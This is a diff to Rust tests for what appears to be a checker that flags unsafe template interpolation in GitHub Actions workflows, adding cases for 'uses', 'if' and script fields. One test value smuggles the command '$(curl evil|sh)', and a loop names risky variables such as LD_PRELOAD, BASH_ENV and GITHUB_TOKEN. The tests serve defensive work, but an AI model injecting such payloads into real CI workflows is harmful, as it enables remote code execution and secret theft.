@@ -123,7 +123,7 @@ fn row_8_lists_and_maps_and_keys_are_looked_into() {
         ("", "", "- run: make\n  env: {<% for k, v in spec.map %><{ k }>: <{ v | yaml }>, <% endfor %>Z: a}"),
     ];
     answered("rendered", &plain(), &variables);
-    answered("rendered", &evil(), &variables);
+    answered("rendered", &json!({"word": "A", "map": {"A": "$(curl evil|sh)"}}), &variables);
     for name in ["BASH_ENV", "Path", "LD_PRELOAD", "GIT_CONFIG_COUNT", "GITHUB_TOKEN", "node_options", "PS4"] {
         answered("unsafe-print", &json!({"word": name, "map": {name: "a"}}), &variables);
     }
@@ -136,6 +136,8 @@ fn row_8_a_request_does_not_say_which_code_runs() {
         ("", "", "- uses: <{ spec.text }>/checkout@v4"),
         ("", "", "- uses: actions/<{ spec.text }>@v4"),
         ("", "", "- uses: <{ spec.text | yaml }>"),
+        ("", "", "- uses: <% set x %><{ spec.text }><% endset %><{ x }>/a@<{ x }>"),
+        ("", "", "- run: make\n  if: <% set x %><{ spec.text }><% endset %>github.ref == '<{ x }>' || <{ x }>"),
         ("", "", "- uses: ./.github/actions/<{ spec.text }>"),
         ("", "", "- uses: docker://alpine:<{ spec.text }>"),
         ("", "uses: a/b/.github/workflows/<{ spec.text }>.yaml@v1", ""),
@@ -157,12 +159,8 @@ fn row_8_scripts_of_other_names_are_scripts() {
     let with = |input: &str| format!("- uses: a/b@v1\n  with: {{{input}}}");
     let bad =
         ["inlineScript: az <{ spec.text }>", "script: echo <{ spec.text }>", "Script: echo <{ spec.text }>", "cmd: a <{ spec.text }>"];
-    let beginning = [
-        "inlineScript: <{ spec.text }> a",
-        "script: <{ spec.text }>",
-        "command: sudo -E <{ spec.text }>",
-        "commands: |\n    <{ spec.text }>",
-    ];
+    let beginning =
+        ["inlineScript: <{ spec.text }> a", "script: <{ spec.text }>", "command: sudo -E <{ spec.text }>", "commands: '<{ spec.text }>'"];
     let beginning = beginning.map(with);
     for step in bad.map(with).iter().chain(&beginning) {
         answered("unsafe-print", &evil(), &[("", "", step)]);
